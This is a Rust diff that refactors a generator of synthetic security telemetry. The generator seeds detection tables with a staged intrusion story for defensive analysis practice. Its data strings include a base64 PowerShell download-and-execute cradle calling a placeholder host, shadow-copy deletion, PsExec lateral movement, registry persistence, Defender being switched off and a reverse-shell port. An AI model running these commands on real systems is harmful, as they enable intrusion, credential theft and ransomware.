@@ -10,7 +10,7 @@
 
 use super::tables::s;
 use super::value::{KTable, KType, KV};
-use crate::data::{Dataset, Device, Rng, User};
+use crate::data::{Dataset, Device, Entities, FileInfo, Rng, User};
 use base64::Engine as _;
 use chrono::{DateTime, Duration, Utc};
 use serde_json::{Value, json};
@@ -504,6 +504,39 @@ impl On<'_> {
     }
 }
 
+/// What every story draws on: the entity pools, the instant its minutes count from, and the ReportId sequence.
+struct Cast<'a> {
+    e: &'a Entities,
+    base: DateTime<Utc>,
+    report: &'a mut i64,
+}
+
+impl<'a> Cast<'a> {
+    /// `minutes` after the stories' start, as a table value.
+    fn clock(&self) -> impl Fn(i64) -> KV + Copy + use<> {
+        let base = self.base;
+        move |minutes: i64| KV::Date(base + Duration::minutes(minutes))
+    }
+    /// Devices and users by position, wrapping around the pools.
+    fn pools(
+        &self,
+    ) -> (
+        impl Fn(usize) -> &'a Device + Copy + use<'a>,
+        impl Fn(usize) -> &'a User + Copy + use<'a>,
+    ) {
+        let e = self.e;
+        (
+            move |i: usize| &e.devices[i % e.devices.len()],
+            move |i: usize| &e.users[i % e.users.len()],
+        )
+    }
+    /// The next ReportId.
+    fn next(&mut self) -> KV {
+        *self.report += 1;
+        KV::Long(*self.report)
+    }
+}
+
 /// The stories: see the module documentation. `report` continues the tables' ReportId sequence.
 pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64) {
     let e = &ds.entities;
@@ -515,17 +548,36 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
         .and_hms_opt(0, 0, 0)
         .map(|t| t.and_utc())
         .unwrap_or(now - Duration::days(2));
-    let at = |minutes: i64| KV::Date(base + Duration::minutes(minutes));
-    let dev = |i: usize| &e.devices[i % e.devices.len()];
-    let usr = |i: usize| &e.users[i % e.users.len()];
-    let mut next = || {
-        *report += 1;
-        KV::Long(*report)
-    };
-
-    // A phishing document opens a shell that downloads and runs a stage, then the attacker looks around, dumps
-    // credentials, persists and moves on (ws-hr-101, bianca.rossi).
+    let mut c = Cast { e, base, report };
+    let (dev, usr) = c.pools();
+    // The intrusion: a phishing document opens a shell that downloads and runs a stage, then the attacker looks
+    // around, dumps credentials, persists and moves on (ws-hr-101, bianca.rossi), reaching a server (`target`).
     let a = On { d: dev(1), u: usr(1) };
+    let target = On { d: dev(7), u: usr(1) };
+    let anydesk = e.files.iter().find(|f| f.name == "AnyDesk.exe");
+    // The phishing attachment: the same hash on disk and in the mail.
+    let docm = e
+        .files
+        .iter()
+        .find(|f| f.name == "invoice_0423.docm")
+        .map(|f| f.sha256.clone())
+        .unwrap_or_default();
+    processes(t, rng, &mut c, &a, &target, anydesk);
+    files(t, rng, &mut c, &a, &target, anydesk, &docm);
+    image_loads(t, rng, &mut c, &a);
+    registry(t, &mut c, &a);
+    device_events(t, &mut c, &a, &target);
+    network(t, &mut c, &a);
+    logons(t, &mut c);
+    identity_logons(t, &mut c);
+    directory(t, rng, &mut c, &a);
+    email(t, rng, &mut c, &a, &docm);
+    cloud_apps(t, &mut c, &a);
+}
+
+/// The intrusion's processes on the first device, then on the machines it reaches.
+fn processes(t: &mut Tables, rng: &mut Rng, c: &mut Cast, a: &On, target: &On, anydesk: Option<&FileInfo>) {
+    let at = c.clock();
     let stage_url = "http://203.0.113.77/stage2.ps1";
     let enc = base64::engine::general_purpose::STANDARD.encode(format!("IEX (New-Object Net.WebClient).DownloadString('{stage_url}')"));
     let word = "\"WINWORD.EXE\" /n \"C:\\Users\\bianca\\Downloads\\invoice_0423.docm\"";
@@ -553,7 +605,6 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
         (41, "PsExec.exe", "C:\\Tools", "PsExec.exe \\\\srv-fin-07 -accepteula -s cmd.exe".into(), "cmd.exe", "cmd.exe"),
         (50, "AnyDesk.exe", "C:\\Users\\bianca\\Downloads", "\"AnyDesk.exe\" --install".into(), "explorer.exe", "explorer.exe"),
     ];
-    let anydesk = e.files.iter().find(|f| f.name == "AnyDesk.exe").cloned();
     for (m, file, folder, cmd, parent, parent_cmd) in &procs {
         let sha256 = match (&anydesk, *file) {
             (Some(f), "AnyDesk.exe") => s(&f.sha256),
@@ -574,14 +625,13 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
             ("InitiatingProcessCommandLine", s(parent_cmd)),
             ("InitiatingProcessAccountName", s(&a.u.account)),
             ("InitiatingProcessAccountDomain", s(a.u.domain)),
-            ("ReportId", next()),
+            ("ReportId", c.next()),
         ];
         row.extend(a.device());
         row.extend(a.account());
         t.push("DeviceProcessEvents", &row);
     }
     // PsExec's service on the target, and a ransomware precursor on a server.
-    let target = On { d: dev(7), u: usr(1) };
     for (m, file, cmd, parent) in [
         (41, "PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", "services.exe"),
         (60, "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", "cmd.exe"),
@@ -595,13 +645,17 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
             ("SHA256", hex(rng, 64)),
             ("ProcessCommandLine", s(cmd)),
             ("InitiatingProcessFileName", s(parent)),
-            ("ReportId", next()),
+            ("ReportId", c.next()),
         ];
         row.extend(target.device());
         row.extend(target.account());
         t.push("DeviceProcessEvents", &row);
     }
+}
 
+/// The files the intrusion lands, renames and stages.
+fn files(t: &mut Tables, rng: &mut Rng, c: &mut Cast, a: &On, target: &On, anydesk: Option<&FileInfo>, docm: &str) {
+    let at = c.clock();
     // Files: the stage and tools land, a downloaded installer (run above), a script from the browser, an archive
     // staged for exfiltration, and a burst of encrypted files on the server.
     let file = |t: &mut Tables,
@@ -634,7 +688,7 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
     let h = hex(rng, 64);
     file(
         t,
-        &a,
+        a,
         2,
         "beacon.bin",
         "C:\\Windows\\Tasks",
@@ -648,7 +702,7 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
     let h = hex(rng, 64);
     file(
         t,
-        &a,
+        a,
         3,
         "update_helper.dll",
         "C:\\ProgramData\\Updater",
@@ -662,7 +716,7 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
     if let Some(f) = &anydesk {
         file(
             t,
-            &a,
+            a,
             48,
             "AnyDesk.exe",
             "C:\\Users\\bianca\\Downloads",
@@ -677,7 +731,7 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
     let h = hex(rng, 64);
     file(
         t,
-        &a,
+        a,
         6,
         "invoice_view.hta",
         "C:\\Users\\bianca\\Downloads",
@@ -691,7 +745,7 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
     let h = hex(rng, 64);
     file(
         t,
-        &a,
+        a,
         70,
         "q4_finance_export.7z",
         "C:\\Users\\Public",
@@ -702,16 +756,9 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
         h,
         rng,
     );
-    // The phishing attachment, saved from Outlook: the same hash as the mail's attachment below.
-    let docm = e
-        .files
-        .iter()
-        .find(|f| f.name == "invoice_0423.docm")
-        .map(|f| f.sha256.clone())
-        .unwrap_or_default();
     file(
         t,
-        &a,
+        a,
         -3,
         "invoice_0423.docm",
         "C:\\Users\\bianca\\Downloads",
@@ -719,7 +766,7 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
         "",
         "OUTLOOK.EXE",
         88_000,
-        s(&docm),
+        s(docm),
         rng,
     );
     for i in 0..30 {
@@ -727,7 +774,7 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
         let name = format!("budget_{i:02}.xlsx.locked");
         file(
             t,
-            &target,
+            target,
             62 + i / 10,
             &name,
             "D:\\Shares\\Finance",
@@ -739,6 +786,12 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
             rng,
         );
     }
+}
+
+/// A side-loaded DLL among signed, trusted loads.
+fn image_loads(t: &mut Tables, rng: &mut Rng, c: &mut Cast, a: &On) {
+    let at = c.clock();
+    let (dev, usr) = c.pools();
     // The side-loaded DLL: loaded by a signed program from a folder anyone can write, and itself unsigned.
     let dll_sha1 = rng.hex(40);
     let mut row = vec![
@@ -749,7 +802,7 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
         ("SHA1", s(&dll_sha1)),
         ("SHA256", hex(rng, 64)),
         ("FileSize", KV::Long(180_000)),
-        ("ReportId", next()),
+        ("ReportId", c.next()),
     ];
     row.extend(a.device());
     row.extend(a.initiating("OneDriveUpdater.exe", "OneDriveUpdater.exe /silent", "svchost.exe"));
@@ -760,7 +813,7 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
         ("IsSigned", KV::Bool(false)),
         ("IsTrusted", KV::Bool(false)),
         ("IsRootSignerMicrosoft", KV::Bool(false)),
-        ("ReportId", next()),
+        ("ReportId", c.next()),
     ];
     row.extend(a.device());
     t.push("DeviceFileCertificateInfo", &row);
@@ -774,7 +827,7 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
             ("FileName", s("mscoree.dll")),
             ("FolderPath", s("C:\\Windows\\System32\\mscoree.dll")),
             ("SHA1", s(&sha1)),
-            ("ReportId", next()),
+            ("ReportId", c.next()),
         ];
         row.extend(d.device());
         row.extend(d.initiating("WINWORD.EXE", "WINWORD.EXE", "explorer.exe"));
@@ -788,12 +841,17 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
             ("Issuer", s("Microsoft Windows Production PCA 2011")),
             ("IsTrusted", KV::Bool(true)),
             ("IsRootSignerMicrosoft", KV::Bool(true)),
-            ("ReportId", next()),
+            ("ReportId", c.next()),
         ];
         row.extend(d.device());
         t.push("DeviceFileCertificateInfo", &row);
     }
+}
 
+/// Persistence and defence evasion in the registry, among ordinary writes.
+fn registry(t: &mut Tables, c: &mut Cast, a: &On) {
+    let at = c.clock();
+    let (dev, usr) = c.pools();
     // Registry: a Run key, the accessibility debugger, Defender switched off.
     for (m, key, name, data) in [
         (
@@ -828,7 +886,7 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
             ("RegistryValueType", s(if data == "1" { "Dword" } else { "String" })),
             ("RegistryValueName", s(name)),
             ("RegistryValueData", s(data)),
-            ("ReportId", next()),
+            ("ReportId", c.next()),
         ];
         row.extend(a.device());
         row.extend(a.initiating("reg.exe", &format!("reg.exe add \"{key}\" /v {name} /d \"{data}\" /f"), "cmd.exe"));
@@ -850,13 +908,18 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
             ("RegistryValueType", s("Dword")),
             ("RegistryValueName", s("ShownFirstRunOptin")),
             ("RegistryValueData", s("1")),
-            ("ReportId", next()),
+            ("ReportId", c.next()),
         ];
         row.extend(d.device());
         row.extend(d.initiating("WINWORD.EXE", "WINWORD.EXE", "explorer.exe"));
         t.push("DeviceRegistryEvents", &row);
     }
+}
 
+/// DeviceEvents of the intrusion, among ordinary PowerShell.
+fn device_events(t: &mut Tables, c: &mut Cast, a: &On, target: &On) {
+    let at = c.clock();
+    let (dev, usr) = c.pools();
     // DeviceEvents: the scheduled task and PsExec's service, LSASS opened, PowerShell commands, SmartScreen.
     let dev_event = |t: &mut Tables, who: &On, m: i64, action: &str, extra: Vec<(&str, KV)>, fields: Value, report: KV| {
         let mut row = vec![
@@ -871,25 +934,25 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
     };
     dev_event(
         t,
-        &a,
+        a,
         30,
         "ScheduledTaskCreated",
         a.initiating("schtasks.exe", "schtasks.exe /create", "powershell.exe").to_vec(),
         json!({"TaskName": "\\OneDrive Updater", "TaskContent": "rundll32.exe C:\\ProgramData\\Updater\\update_helper.dll,Start"}),
-        next(),
+        c.next(),
     );
     dev_event(
         t,
-        &target,
+        target,
         41,
         "ServiceInstalled",
         target.initiating("services.exe", "services.exe", "wininit.exe").to_vec(),
         json!({"ServiceName": "PSEXESVC", "ServiceAccount": "LocalSystem", "ServiceStartType": 3}),
-        next(),
+        c.next(),
     );
     dev_event(
         t,
-        &a,
+        a,
         20,
         "OpenProcessApiCall",
         {
@@ -904,7 +967,7 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
             x
         },
         json!({"DesiredAccess": 2097151}),
-        next(),
+        c.next(),
     );
     for (m, cmd) in [
         (1, "Invoke-WebRequest"),
@@ -915,13 +978,13 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
     ] {
         dev_event(
             t,
-            &a,
+            a,
             m,
             "PowerShellCommand",
             a.initiating("powershell.exe", "powershell.exe -nop -w hidden", "WINWORD.EXE")
                 .to_vec(),
             json!({"Command": cmd}),
-            next(),
+            c.next(),
         );
     }
     for i in 0..6 {
@@ -937,13 +1000,13 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
                 "PowerShellCommand",
                 d.initiating("powershell.exe", "powershell.exe", "explorer.exe").to_vec(),
                 json!({"Command": cmd}),
-                next(),
+                c.next(),
             );
         }
     }
     dev_event(
         t,
-        &a,
+        a,
         5,
         "SmartScreenUrlWarning",
         {
@@ -952,11 +1015,11 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
             x
         },
         json!({"Experience": "Malicious"}),
-        next(),
+        c.next(),
     );
     dev_event(
         t,
-        &a,
+        a,
         -1,
         "BrowserLaunchedToOpenUrl",
         {
@@ -965,9 +1028,13 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
             x
         },
         json!({}),
-        next(),
+        c.next(),
     );
+}
 
+/// The beacon and the lateral movement on the network.
+fn network(t: &mut Tables, c: &mut Cast, a: &On) {
+    let at = c.clock();
     // Network: the beacon every 30 minutes for a day, a reverse shell port, SMB and RDP fan-out from one host.
     let net = |t: &mut Tables, who: &On, m: i64, ip: &str, port: i64, url: &str, by: &str, remote_type: &str, report: KV| {
         let mut row = vec![
@@ -992,25 +1059,30 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
     for k in 0..48 {
         net(
             t,
-            &a,
+            a,
             36 + k * 30,
             "203.0.113.77",
             443,
             "update-check.example-c2.net",
             "rundll32.exe",
             "Public",
-            next(),
+            c.next(),
         );
     }
-    net(t, &a, 1, "203.0.113.77", 4444, "", "powershell.exe", "Public", next());
+    net(t, a, 1, "203.0.113.77", 4444, "", "powershell.exe", "Public", c.next());
     for k in 0..14 {
         let ip = format!("10.1.{}.{}", 10 + k / 8, 20 + k);
-        net(t, &a, 42 + k / 5, &ip, 445, "", "System", "Private", next());
+        net(t, a, 42 + k / 5, &ip, 445, "", "System", "Private", c.next());
         if k < 7 {
-            net(t, &a, 44, &ip, 3389, "", "mstsc.exe", "Private", next());
+            net(t, a, 44, &ip, 3389, "", "mstsc.exe", "Private", c.next());
         }
     }
+}
 
+/// A password guessed from the internet on a server.
+fn logons(t: &mut Tables, c: &mut Cast) {
+    let at = c.clock();
+    let (dev, usr) = c.pools();
     // Logons: a password guessed from the internet, RDP from a public address.
     let server = dev(15);
     for k in 0..14 {
@@ -1031,14 +1103,20 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
             ("RemoteIP", s("203.0.113.66")),
             ("RemoteIPType", s("Public")),
             ("RemotePort", KV::Long(51000 + k as i64)),
-            ("ReportId", next()),
+            ("ReportId", c.next()),
         ];
         if ok {
             row.push(("LogonId", KV::Long(999_001)));
         }
         t.push("DeviceLogonEvents", &row);
     }
+}
 
+/// Entra ID sign-ins: a spray and an impossible traveller.
+fn identity_logons(t: &mut Tables, c: &mut Cast) {
+    let at = c.clock();
+    let (_, usr) = c.pools();
+    let e = c.e;
     // Identity: a password spray against Entra ID, one account signing in from three countries in a day.
     for (k, u) in e.users.iter().enumerate().take(12) {
         let mut row = identity_logon(u, at(-540 + k as i64 * 2), "LogonFailed", "203.0.113.99", "RO");
@@ -1055,7 +1133,12 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
             &identity_logon(traveller, at(-200 + k as i64 * 90), "LogonSuccess", ip, cc),
         );
     }
+}
 
+/// Active Directory changes and reconnaissance against the domain controller.
+fn directory(t: &mut Tables, rng: &mut Rng, c: &mut Cast, a: &On) {
+    let at = c.clock();
+    let (_, usr) = c.pools();
     // Directory changes: an account added to Domain Admins, a password reset by someone else, an account disabled.
     let admin = usr(1);
     let victim = usr(9);
@@ -1146,7 +1229,13 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
             ],
         );
     }
+}
 
+/// The phishing mail and its neighbours.
+fn email(t: &mut Tables, rng: &mut Rng, c: &mut Cast, a: &On, docm: &str) {
+    let at = c.clock();
+    let (dev, usr) = c.pools();
+    let e = c.e;
     // Email: the phishing mail with the macro document, a malware ISO, a lookalike sender mailing many people,
     // and a click through a warning page.
     let phish_id = rng.guid();
@@ -1170,7 +1259,7 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
         &a.u.upn,
         "invoice_0423.docm",
         "docm",
-        &docm,
+        docm,
         "Malware",
         "Trojan:O97M/Donoff",
     );
@@ -1250,7 +1339,14 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
             2,
         );
     }
+}
 
+/// Cloud app activity after the intrusion.
+fn cloud_apps(t: &mut Tables, c: &mut Cast, a: &On) {
+    let admin = a.u;
+    let at = c.clock();
+    let (dev, usr) = c.pools();
+    let e = c.e;
     // Cloud apps: a mass download, a forwarding rule, an OAuth consent, a role grant, activity through an
     // anonymising proxy, and mail read by an application.
     let insider = usr(6);
